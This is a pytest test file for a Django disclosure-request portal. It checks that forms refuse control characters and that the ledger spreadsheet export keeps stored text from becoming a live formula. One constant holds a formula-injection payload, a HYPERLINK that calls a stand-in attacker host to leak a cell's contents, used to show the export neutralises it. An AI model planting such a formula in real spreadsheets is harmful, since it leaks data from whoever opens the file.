"""Text hygiene in the web: control characters refused in forms, naming the field; the
ledger export and the letters never fail on stored text, and never carry a live formula
(security review F2, F3, F11, F13). Runs on SQLite and on PostgreSQL."""

from __future__ import annotations

import io
from collections.abc import Callable
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from django.test import Client

from gongkai_web.agencies.models import Agency
from gongkai_web.applications.models import Application
from gongkai_web.portal import forms as portal_forms
from tests.gongkai_web.conftest import make_application
from tests.gongkai_web.portal.conftest import submit

Login = Callable[[Any], Client]


@pytest.fixture(autouse=True)
def no_wait(monkeypatch: pytest.MonkeyPatch) -> None:
    """The portal form's minimum fill time is 0 (as in tests/gongkai_web/portal)."""
    monkeypatch.setattr(portal_forms, "MIN_FILL_SECONDS", 0)


FORMULA = '=HYPERLINK("http://attacker.invalid/?leak="&A2,"Click")'


def test_portal_refuses_a_control_character_naming_the_field(agency: Agency) -> None:
    response = submit(Client(), agency, applicant_name="Ctrl\x01Char")
    assert response.status_code == 400
    page = response.content.decode()
    assert "「姓名或名称」第5个字符是不可见的控制字符 U+0001" in page
    assert not Application.objects.exists()


def test_the_refusal_is_in_english_in_english_mode(agency: Agency) -> None:
    client = Client()
    client.get(f"/portal/{agency.code}/apply/?lang=en")
    response = submit(client, agency, applicant_name="Ctrl\x01Char")
    assert response.status_code == 400
    assert "character 5 is the invisible control character U+0001" in (
        response.content.decode()
    )


def test_portal_refuses_a_line_break_in_a_one_line_field(agency: Agency) -> None:
    response = submit(Client(), agency, address="示范市\n解放路")
    assert response.status_code == 400
    assert "「通信地址」第4个字符是不可见的控制字符 U+000A" in response.content.decode()


def test_portal_keeps_line_breaks_in_the_request(agency: Agency) -> None:
    response = submit(Client(), agency, content="第一项：名单\r\n第二项：资金安排")
    assert response.status_code in (200, 302)
    assert Application.objects.get().content == "第一项：名单\n第二项：资金安排"


def test_back_office_form_refuses_a_control_character(
    agency: Agency, registrar: Any, login: Login
) -> None:
    response = login(registrar).post(
        f"/a/{agency.code}/cases/new/",
        {
            "channel": "in_person",
            "received": "2024-06-03",
            "applicant_type": "natural_person",
            "applicant_name": "张三",
            "content": "内容\x07",
        },
    )
    assert (
        "「申请公开的政府信息」第3个字符是不可见的控制字符 U+0007"
        in response.content.decode()
    )
    assert not Application.objects.exists()


def test_ledger_export_of_stored_hostile_text_is_text_not_formula(
    agency: Agency, registrar: Any, login: Login
) -> None:
    make_application(agency, registrar, applicant_name=FORMULA, content="Ctrl\x01x\x0b")
    response = login(registrar).get(f"/a/{agency.code}/ledger/export/?year=2024")
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert all(cell.data_type != "f" for row in sheet for cell in row)
    assert [sheet["D2"].value, sheet["E2"].value] == [FORMULA, "Ctrlx"]


def test_ledger_page_refuses_a_nul_byte_with_a_row_error(
    agency: Agency, registrar: Any, login: Login, tmp_path: Path
) -> None:
    path = tmp_path / "nul.csv"
    path.write_bytes(
        "编号,收到日期,申请人类型,申请人,申请内容\n"
        "2024-001,2024-01-05,自然人,张\x00三,内容\n".encode()
    )
    with path.open("rb") as upload:
        response = login(registrar).post(f"/a/{agency.code}/ledger/", {"file": upload})
    assert response.status_code == 400
    [problem] = response.context["problems"]
    assert (problem.row_number, problem.header) == (2, "申请人")
    assert "U+0000" in problem.reason
    assert not Application.objects.exists()


# Letters on arbitrary stored text: tests/gongkai/letters/test_docx.py (hypothesis over
# Unicode and control characters in every fact).
